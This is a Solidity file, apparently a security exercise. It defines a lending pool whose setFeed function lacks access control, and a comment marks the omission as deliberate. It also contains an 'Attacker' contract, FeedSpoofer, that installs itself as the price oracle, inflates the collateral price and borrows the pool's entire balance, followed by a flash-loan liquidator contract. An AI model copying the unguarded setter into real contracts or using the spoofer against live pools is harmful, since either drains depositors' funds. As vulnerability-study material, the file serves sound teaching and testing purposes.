// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FlashSavingsVault, IERC3156FlashBorrower} from "FlashVault.sol";

interface IPriceFeed {
    /// @notice Ether per collateral token, 18 decimals.
    function price() external view returns (uint256);
}

interface ICollateral {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice A price feed its owner sets.
contract OwnedFeed is IPriceFeed {
    address public immutable owner;
    uint256 public price;

    constructor(uint256 price_) {
        owner = msg.sender;
        price = price_;
    }

    function setPrice(uint256 price_) external {
        require(msg.sender == owner);
        price = price_;
    }
}

/// @notice Lends ether against a token valued by a price feed; a position over its limit may be
///         liquidated by repaying its whole debt for all its collateral. Every parameter setter
///         is owner-only except setFeed, which lost its modifier.
contract FeedLendingPool {
    address public immutable owner;
    ICollateral public immutable collateralToken;
    IPriceFeed public feed;
    uint256 public ltvBps = 5_000;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event FeedChanged(address feed);
    event LtvChanged(uint256 ltvBps);

    error NotOwner();
    error OverLimit(uint256 limit);
    error PaymentFailed();
    error Healthy(uint256 debt, uint256 limit);
    error WrongRepayment(uint256 debt);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(ICollateral token, IPriceFeed feed_) {
        owner = msg.sender;
        collateralToken = token;
        feed = feed_;
    }

    function setLtv(uint256 ltvBps_) external onlyOwner {
        ltvBps = ltvBps_;
        emit LtvChanged(ltvBps_);
    }

    function setFeed(IPriceFeed feed_) external {
        feed = feed_;
        emit FeedChanged(address(feed_));
    }

    function supply() external payable {
        supplied[msg.sender] += msg.value;
    }

    function depositCollateral(uint256 amount) external {
        collateralToken.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
    }

    function limitOf(address borrower) public view returns (uint256) {
        return (collateral[borrower] * feed.price() / 1e18) * ltvBps / 10_000;
    }

    function liquidate(address borrower) external payable {
        uint256 owed = debt[borrower];
        uint256 limit = limitOf(borrower);
        if (owed <= limit) revert Healthy(owed, limit);
        if (msg.value != owed) revert WrongRepayment(owed);
        uint256 seized = collateral[borrower];
        debt[borrower] = 0;
        collateral[borrower] = 0;
        collateralToken.transfer(msg.sender, seized);
    }

    function borrow(uint256 amount) external {
        uint256 limit = limitOf(msg.sender);
        if (debt[msg.sender] + amount > limit) revert OverLimit(limit);
        debt[msg.sender] += amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }
}

/// @notice Attacker: installs itself as the pool's feed, pricing one token at 1e18 ether.
contract FeedSpoofer is IPriceFeed {
    function price() external pure returns (uint256) {
        return 1e36;
    }

    function attack(FeedLendingPool pool, uint256 pledged) external {
        pool.setFeed(this);
        pool.collateralToken().approve(address(pool), pledged);
        pool.depositCollateral(pledged);
        pool.borrow(address(pool).balance);
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

interface IWrappedEther {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function transfer(address to, uint256 amount) external returns (bool);
}

interface ITokenMarket {
    function sellToken(uint256 amountIn, uint256 minOut) external returns (uint256);
}

/// @notice A liquidator's contract: flash-borrows WETH for the debt, liquidates, sells the seized
///         collateral, repays the loan and keeps the difference.
contract FlashLiquidator is IERC3156FlashBorrower {
    address private immutable owner;
    IWrappedEther private immutable weth;

    constructor(IWrappedEther weth_) {
        owner = msg.sender;
        weth = weth_;
    }

    function liquidate(
        FlashSavingsVault lender,
        FeedLendingPool pool,
        address borrower,
        ITokenMarket market
    ) external {
        require(msg.sender == owner);
        bytes memory plan = abi.encode(pool, borrower, market);
        lender.flashLoan(this, address(weth), pool.debt(borrower), plan);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    function onFlashLoan(
        address initiator,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata plan
    ) external returns (bytes32) {
        require(initiator == address(this));
        (FeedLendingPool pool, address borrower, ITokenMarket market) =
            abi.decode(plan, (FeedLendingPool, address, ITokenMarket));
        weth.withdraw(amount);
        pool.liquidate{value: amount}(borrower);
        ICollateral seized = pool.collateralToken();
        uint256 held = seized.balanceOf(address(this));
        seized.approve(address(market), held);
        market.sellToken(held, 0);
        weth.deposit{value: amount + fee}();
        weth.transfer(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {}
}
